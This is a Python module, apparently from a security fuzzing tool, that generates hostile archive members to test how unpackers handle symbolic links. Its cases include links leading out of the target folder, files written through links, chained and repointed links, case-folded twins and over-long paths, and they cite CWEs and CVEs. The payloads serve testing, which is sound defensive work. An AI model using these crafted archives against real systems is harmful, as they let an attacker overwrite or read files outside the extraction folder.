"""Symbolic links in archives: left behind, written through, put in the place of something else."""

from collections.abc import Iterator

from capfuzz.attacks.techniques.archives_model import (
    ABOVE,
    BOTH,
    FAR,
    JAIL,
    MINE,
    TAR,
    Member,
    Packed,
    archive,
    file,
    folder,
    link,
)

_FOLLOWS = "makes links as they come, and opens what is unpacked later through them"
_AS_TEXT = "judges a name or the target of a link as text, while the system follows links"


@archive(
    "unpacked-link-out",
    group="archive-links",
    cwe="CWE-59",
    needs="makes links without a look at where they lead, so that a reader of the folder gets out",
    refs=("CVE-2025-4138",),
)
def link_out() -> Iterator[Packed]:
    """Leave a link behind that leads out: to a file, to a folder, up, or by its full name."""
    for name, target, means in (
        ("note", "../secret.txt", ABOVE),
        ("note", FAR, FAR),
        ("sub/note", f"../../..{FAR}", FAR),
        ("all", "..", JAIL),
        ("all", "../", JAIL),
        ("all", JAIL, JAIL),
        ("all", "sub/../..", JAIL),
        ("sub/all", "./../.././.", JAIL),
    ):
        yield Packed((folder("sub"), link(name, target)), means, BOTH)


@archive(
    "unpacked-link-beside",
    group="archive-link-boundary",
    cwe="CWE-187",
    needs="compares where a link leads with the folder as text, without a separator at its end",
    refs=("CVE-2025-59343",),
)
def link_beside() -> Iterator[Packed]:
    """Leave a link behind that leads to a neighbour whose name begins as the folder's does."""
    for target in (
        "../drop-evil",
        "../drop-evil/secret.txt",
        "../dropbox/secret.txt",
        "../drop.txt",
    ):
        yield Packed((link("beside", target),), f"{JAIL}/{target[3:]}", BOTH)


@archive("unpacked-link-then-file", group="archive-links", cwe="CWE-59", needs=_FOLLOWS)
def link_then_file() -> Iterator[Packed]:
    """Make a link to a folder outside, then put a file into it by the name of the link."""
    for target, name, means in (
        ("..", "secret.txt", ABOVE),
        ("..", "new.txt", f"{JAIL}/new.txt"),
        (JAIL, "secret.txt", ABOVE),
        ("/cf-vault", "new.txt", "/cf-vault/new.txt"),
        ("../drop-evil", "new.txt", f"{JAIL}/drop-evil/new.txt"),
        ("../../cf-vault", "deep/er/new.txt", "/cf-vault/deep/er/new.txt"),
    ):
        yield Packed((link("way", target), file(f"way/{name}")), means, BOTH)
    yield Packed((link("way", ".."), folder("way/made")), f"{JAIL}/made", BOTH)


@archive(
    "unpacked-link-then-its-name",
    group="archive-links",
    cwe="CWE-59",
    needs="opens a file for writing where a link of that name stands already",
)
def link_then_its_name() -> Iterator[Packed]:
    """Make a link to a file outside, then a file of the very same name, which is written there."""
    for target, means in (("../secret.txt", ABOVE), (FAR, FAR), ("../new.txt", f"{JAIL}/new.txt")):
        yield Packed((link("note", target), file("note")), means, BOTH)


@archive("unpacked-link-chain", group="archive-link-chain", cwe="CWE-59", needs=_AS_TEXT)
def link_chain() -> Iterator[Packed]:
    """Make links that stay inside each by itself, as text, and lead out one through the other."""
    for steps in (
        (folder("p/q"), link("p/q/x", "../.."), link("way", "p/q/x/..")),
        (link("here", "."), link("way", "here/..")),
        (folder("a/b"), link("a/b/up", "../.."), link("way", "a/b/up/../sub/..")),
        (link("one", "."), link("two", "one/."), link("way", "two/..")),
    ):
        for last in (file("way/new.txt"), None):
            yield Packed((*steps, *([last] if last else ())), f"{JAIL}/new.txt", BOTH)


@archive("unpacked-link-then-climb", group="archive-link-chain", cwe="CWE-59", needs=_AS_TEXT)
def link_then_climb() -> Iterator[Packed]:
    """Climb behind a link that leads up inside: as text that comes back, in truth it leaves."""
    steps = (folder("p/q"), link("p/q/top", "../.."))
    yield Packed((*steps, file("p/q/top/../new.txt")), f"{JAIL}/new.txt", BOTH)
    yield Packed((*steps, file("p/q/top/../secret.txt")), ABOVE, BOTH)


@archive(
    "unpacked-link-for-folder",
    group="archive-link-cache",
    cwe="CWE-367",
    needs="remembers folders that it has made or judged, while a link has taken their place",
    refs=("CVE-2021-32803",),
)
def link_for_folder() -> Iterator[Packed]:
    """Make a folder, replace it by a link that leads out, and put a file into it."""
    for made in ((folder("way"),), (folder("way/"), file("way/first.txt"))):
        for name in ("way", "way/", "./way"):
            yield Packed((*made, link(name, ".."), file("way/new.txt")), f"{JAIL}/new.txt")


@archive(
    "unpacked-link-for-twin",
    group="archive-link-cache",
    cwe="CWE-178",
    needs="remembers folders under a folded form of their names, and the system knows them apart",
    refs=("CVE-2021-37701", "CVE-2021-37712"),
)
def link_for_twin() -> Iterator[Packed]:
    """Make a folder, then a link whose name is another spelling of it, and put a file into that."""
    for made, twin in (
        ("way", "WAY"),
        ("caf\u00e9", "cafe\u0301"),
        ("stra\u00dfe", "strasse"),
        ("a\\b", "a/b"),
    ):
        steps: tuple[Member, ...] = (folder(made), link(twin, ".." if "/" not in twin else "../.."))
        yield Packed((*steps, file(f"{twin}/new.txt")), f"{JAIL}/new.txt")


@archive(
    "unpacked-link-repointed",
    group="archive-link-cache",
    cwe="CWE-367",
    needs="judges a link once, while a later member of the same name points it elsewhere",
)
def link_repointed() -> Iterator[Packed]:
    """Make a link that stays inside, make it again leading out, and put a file into it."""
    for second in ("..", JAIL, "sub/../.."):
        steps = (folder("sub"), link("way", "sub"), file("way/first.txt"), link("way", second))
        yield Packed((*steps, file("way/new.txt")), f"{JAIL}/new.txt", BOTH)


@archive(
    "unpacked-root-is-link",
    group="archive-link-root",
    cwe="CWE-59",
    needs="lets a member take the place of the folder itself, which is never judged again",
)
def root_is_link() -> Iterator[Packed]:
    """Name the folder itself as a link that leads elsewhere, then unpack into it."""
    for name in (".", "./", "", "sub/.."):
        for target in ("..", "../../cf-vault", "drop-evil"):
            yield Packed((link(name, target), file("new.txt")), f"{JAIL}/new.txt", TAR)


@archive(
    "unpacked-path-too-long",
    group="archive-link-too-long",
    cwe="CWE-59",
    needs="resolves links with a function that gives up, without an error, where a path is too long",
    refs=("CVE-2025-4517",),
)
def path_too_long() -> Iterator[Packed]:
    """Hide the last links behind a path that is longer than the system resolves (PATH_MAX)."""
    steps, way, short = [], "", "abcdefghijklmnop"
    for letter in short:
        long = "d" * 247
        steps += [folder(f"{way}{long}"), link(f"{way}{letter}", long)]
        way += f"{long}/"
    last = "/".join(short) + "/" + "l" * 254
    steps += [link(last, "../" * len(short)), link("way", f"{last}/..")]
    yield Packed((*steps, file("way/new.txt")), f"{JAIL}/new.txt")
    yield Packed((*steps, link("note", "way/secret.txt"), file("note", MINE)), ABOVE)
